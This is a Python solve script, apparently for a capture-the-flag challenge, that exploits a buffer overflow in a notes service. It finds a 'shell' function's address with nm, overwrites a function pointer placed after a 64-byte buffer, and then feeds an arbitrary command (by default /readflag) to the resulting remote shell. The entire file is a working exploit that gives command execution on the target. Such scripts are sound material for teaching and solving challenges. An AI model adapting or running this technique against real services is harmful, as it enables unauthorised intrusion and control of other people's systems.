#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Solves the example: python3 solve.py HOST PORT NOTES [COMMAND]

NOTES is the program that players were given. COMMAND runs inside as the service's user; without one, /readflag.
"""
import socket
import struct
import subprocess
import sys

READ_AT_ONCE = 256  # what notes.c reads ...
TEXT_SIZE = 64  # ... into this much; the address of the function it calls next lies right behind


def address_of(function: str, program: str) -> int:
    for line in subprocess.run(["nm", program], check=True, capture_output=True, text=True).stdout.splitlines():
        words = line.split()
        if words[-1] == function:
            return int(words[0], 16)
    sys.exit(f"{program} has no function {function}")


def main(host: str, port: str, program: str, command: str = "/readflag") -> None:
    overflow = b"A" * TEXT_SIZE + struct.pack("<Q", address_of("shell", program))
    with socket.create_connection((host, int(port)), timeout=60) as connection:
        connection.recv(4096)  # the question
        connection.sendall(overflow.ljust(READ_AT_ONCE, b"B"))
        # From here on a shell reads the connection.
        connection.sendall(command.encode() + b"\nexit\n")
        while data := connection.recv(4096):
            sys.stdout.write(data.decode(errors="replace"))


if __name__ == "__main__":
    if len(sys.argv) not in (4, 5):
        sys.exit(__doc__)
    main(*sys.argv[1:])
